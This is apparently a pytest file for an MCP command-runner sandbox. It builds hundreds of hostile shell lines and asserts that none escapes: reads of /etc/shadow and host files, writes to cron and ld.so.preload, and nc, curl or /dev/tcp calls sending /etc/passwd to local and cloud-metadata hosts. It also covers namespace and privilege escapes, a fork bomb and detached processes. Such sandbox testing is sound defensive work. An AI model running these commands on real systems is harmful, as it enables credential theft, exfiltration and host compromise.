"""Command lines that want out of the sandbox, generated from what they reach for and how: none of them gets there."""

import itertools
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from contracts.sandbox import SandboxLimits
from mcp_servers.runner.output import Output
from mcp_servers.runner.sandbox import Opening, Sandbox, SandboxKeeper
from services.attacking.traps import Traps, traps_set
from tests.fakes.tallies import Tally

pytestmark = [pytest.mark.slow, pytest.mark.timeout(500)]
LIMITS = SandboxLimits(memory_mib=256, processes=64, disk_mib=64, file_mib=16, output_kib=64)
SECONDS = 4.0
READERS = (
    "cat {}", "dd if={} 2>&1", "python3 -c \"print(open('{}').read())\"", "ln -sf {} l; cat l", "cp -r {} got; cat got",
    "tar cf - {} 2>&1 | strings 2>/dev/null || tar cf - {}", "while read x; do echo $x; done < {}",
    "ls -laR {} | head -50; base64 {}",
)  # fmt: skip
PRIVATE = (
    "{file}", "/proc/1/root{file}", "/proc/self/root{file}", "/proc/1/cwd{file}", "/work/../../..{file}", "/proc/self/fd/3",
    "/etc/shadow", "/proc/kcore", "/proc/1/mem",
)  # fmt: skip
WRITERS = (
    "echo owned > {}", "cp /bin/true {}", "python3 -c \"open('{}', 'w').write('owned')\"", "ln -sf {} w; echo owned > w",
    "mv a {}", "echo owned | tee {}", "dd if=/dev/zero of={} count=1", "touch {}", "rm -rf {}", "chmod 777 {}",
    "truncate -s 0 {}",
)  # fmt: skip
WRITTEN = (
    "{file}", "/proc/1/root{file}", "/etc/cron.d/x", "/etc/ld.so.preload", "/usr/bin/git", "/proc/sys/kernel/core_pattern",
)  # fmt: skip
REACHERS = (
    "curl -sm 1 http://{}/", "wget -qO- -T 1 http://{}/", "bash -c 'exec 3<>/dev/tcp/{host}/{port}; echo x >&3; cat <&3'",
    "python3 -c \"import socket; socket.create_connection(('{host}', {port}), 1).send(b'x')\"",
    "nc -w 1 {host} {port} < /etc/passwd", "python3 -c \"import socket; socket.socket(2, 2).sendto(b'x', ('{host}', {port}))\"",
    "git ls-remote http://{}/x.git", "pip download -q --timeout 1 --retries 0 -i http://{}/ x",
)  # fmt: skip
PLACES = (
    "127.0.0.1", "localhost", "0.0.0.0", "169.254.169.254", "172.17.0.1", "10.0.0.1", "host.docker.internal",
)  # fmt: skip
ENTERING = (
    "unshare -Ur id", "unshare -m true", "unshare -n true", "nsenter -t 1 -a id", "nsenter -t 1 -m cat {file}",
    "mount -t tmpfs x /mnt", "mount --bind / /tmp", "umount /proc", "chroot /tmp id", "su root -c id", "sudo -n id",
    "mknod d b 254 0", "insmod x.ko", "dmesg", "sysctl -w kernel.core_pattern=x", "echo x > /proc/sysrq-trigger",
    "docker -H unix:///var/run/docker.sock ps", "reboot -f", "hostname owned", "date -s 2001-01-01", "ip link add x type dummy",
    "iptables -F", "setcap cap_sys_admin+ep /bin/true", "chown root:root .", "swapon x", "losetup /dev/loop0 x",
    "perf stat true", "strace -p 1", "gdb -p 1 -batch", "bwrap --bind / / id", "kill -9 {sentinel}", "kill -9 -1", "pkill -9 .",
    "renice -20 1", "ulimit -u unlimited", "prlimit --pid 1 --nofile=1", "logger x", "crontab -l", "at now", "systemctl status",
    "ssh -o BatchMode=yes localhost id", "echo x > /dev/mem", "modprobe x",
)  # fmt: skip
LASTING = (
    "nohup sleep 4242 >/dev/null 2>&1 &", "setsid sleep 4242 >/dev/null 2>&1 &", "(sleep 4242 &) &", "sleep 4242 & disown",
    "python3 -c \"import os; os.fork() or os.setsid() or os.fork() or os.execvp('sleep', ['sleep', '4242'])\" >/dev/null 2>&1 &",
    "trap '' TERM INT HUP; sleep 4242", "exec 3>/tmp/x; sleep 4242 >&3 2>&1 &", "yes > /dev/null &", ":(){ :|:& };:",
    "yes | head -c 99999999",
)  # fmt: skip


COUNT = "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done | grep -c '^sleep 4242'"


def snippets(traps: Traps) -> Iterator[tuple[str, str]]:
    """(class, command line)."""
    fill = {"file": str(traps.file), "sentinel": str(traps.sentinel.pid)}
    for how, what in itertools.product(READERS, PRIVATE):
        yield "read", how.replace("{}", what.format(**fill))
    for how, what in itertools.product(WRITERS, WRITTEN):
        yield "write", how.replace("{}", what.format(**fill))
    for how, host in itertools.product(REACHERS, PLACES):
        where = how.replace("{host}", host).replace("{port}", str(traps.port))
        yield "reach", where.replace("{}", f"{host}:{traps.port}")
    for line in ENTERING:
        yield "enter", line.format(**fill)
    for line in LASTING:
        yield "last", line


async def ran(sandbox: Sandbox, line: str, seconds: float = SECONDS) -> str:
    output = Output(LIMITS.output_kib << 10)
    await sandbox.run(line, seconds, output.add)
    return output.text()


async def test_no_snippet_gets_out(keeper: SandboxKeeper, tally: Callable[[str], Tally]) -> None:
    shadow = Path("/etc/shadow").read_text()[:60] if Path("/etc/shadow").is_file() else "no such file here"
    counts: dict[str, Tally] = {}
    sandbox = await keeper.open(Opening(LIMITS))
    try:
        with traps_set() as traps:
            for kind, line in snippets(traps):
                count = counts.setdefault(kind, tally(f"hostile snippets, {keeper.tier.value}: {kind}"))
                said = await ran(sandbox, f"cd /work; {line}")
                problem = traps.problem()
                if traps.canary in said or shadow in said:
                    problem = "a file of the host was read"
                count.case(line, problem)
            survivors = await ran(sandbox, COUNT)
            counts["last"].case("what lives in the end", "" if survivors.strip() == "0" else f"{survivors} processes")
            assert (await ran(sandbox, "echo it works")).strip() == "it works"
    finally:
        await sandbox.close()
    for count in counts.values():
        count.settle()
    assert sum(count.cases for count in counts.values()) >= 200
